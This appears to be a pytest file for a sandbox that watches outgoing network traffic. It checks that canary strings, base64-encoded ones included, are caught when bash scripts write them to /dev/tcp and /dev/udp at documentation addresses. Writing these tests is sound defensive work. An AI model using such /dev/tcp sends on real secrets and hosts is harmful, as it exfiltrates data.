"""The box sees what leaves: every other test that stands on its silence stands on these."""

from __future__ import annotations

import os
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests import netbox
from tests.netbox.hostile_surroundings import ELSEWHERE, REDIRECTED_TO, variables
from tests.netbox.sink import EVERY_NAME

CANARY = "the-canary-sings-7f3a"
PLAIN = {"PATH": "/usr/bin:/bin"}


@pytest.fixture(autouse=True)
def _box() -> None:
    netbox.need_a_box()


def ran(script: str, *, hosts: str = netbox.USUAL_HOSTS, uid: int | None = None) -> netbox.Seen:
    return netbox.run(["bash", "-c", script], environment=PLAIN, canaries=[CANARY], hosts=hosts, uid=uid)


def processes_with(words: str) -> Sequence[str]:
    found = []
    for command in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = command.read_bytes().decode(errors="replace")
        except OSError:
            continue  # it has ended in the meantime
        if words in text and command.parent.name != str(os.getpid()):
            found.append(text)
    return found


def test_a_program_that_sends_nothing_is_silent() -> None:
    seen = ran("echo out; echo err >&2; exit 3")
    assert (seen.code, seen.out, seen.err) == (3, "out\n", "err\n")
    assert seen.silent
    assert not seen.packets


@pytest.mark.parametrize("address", ["192.0.2.1", "2001:db8::1"])
def test_a_connection_to_any_address_is_answered_and_seen_with_its_words(address: str) -> None:
    seen = ran(f"echo {CANARY} > /dev/tcp/{address}/443")
    assert seen.code == 0
    target = f"tcp [{address}]:443" if ":" in address else f"tcp {address}:443"
    assert seen.packets[target] >= 3
    assert seen.requests == [(address, 443, CANARY + "\n")]
    assert seen.sightings[CANARY]


def test_a_datagram_is_seen() -> None:
    assert ran(f"echo {CANARY} > /dev/udp/192.0.2.9/4242").packets == {"udp 192.0.2.9:4242": 1}


def test_a_name_that_is_looked_up_is_seen_and_answered() -> None:
    seen = ran("getent ahostsv4 secret.example.invalid")
    assert "secret.example.invalid" in seen.names
    assert EVERY_NAME in seen.out


def test_words_in_base64_are_seen() -> None:
    seen = ran(f"echo x{CANARY}y | base64 > /dev/udp/192.0.2.9/9")
    assert seen.sightings[CANARY] == 1


def test_what_stays_on_loopback_is_not_seen() -> None:
    assert ran(f"echo {CANARY} > /dev/udp/127.0.0.1/9").silent


def test_the_hosts_file_is_the_one_that_was_given() -> None:
    assert "198.51.100.7" in ran("getent hosts some.name", hosts="198.51.100.7\tsome.name\n").out


def test_a_program_left_behind_ends_with_the_box() -> None:
    ran("sleep 987.125 & setsid sleep 987.125 & disown -a")
    assert not processes_with("987.125")


@pytest.mark.skipif(os.getuid() != 0, reason="the other tests run as an ordinary user already")
def test_an_ordinary_user_can_make_the_box_too() -> None:
    seen = ran(f"echo {CANARY} > /dev/tcp/192.0.2.1/80", uid=65534)
    assert seen.requests == [("192.0.2.1", 80, CANARY + "\n")]


def test_a_local_chat_with_the_libraries_as_they_come_leaks(tmp_path: Path) -> None:
    seen = netbox.run(
        [sys.executable, "-m", "tests.netbox.library_defaults", CANARY],
        environment={**PLAIN, **variables(tmp_path), "HOME": str(tmp_path), "PYTHONPATH": str(netbox.PROJECT)},
        canaries=[CANARY + "-by-proxy", CANARY + "-by-redirect"],
    )
    assert seen.code == 0, seen.err
    assert seen.sightings[CANARY + "-by-proxy"]
    assert seen.sightings[CANARY + "-by-redirect"]
    assert {(ELSEWHERE, 3128), (REDIRECTED_TO, 11434)} <= {(address, port) for address, port, _ in seen.requests}
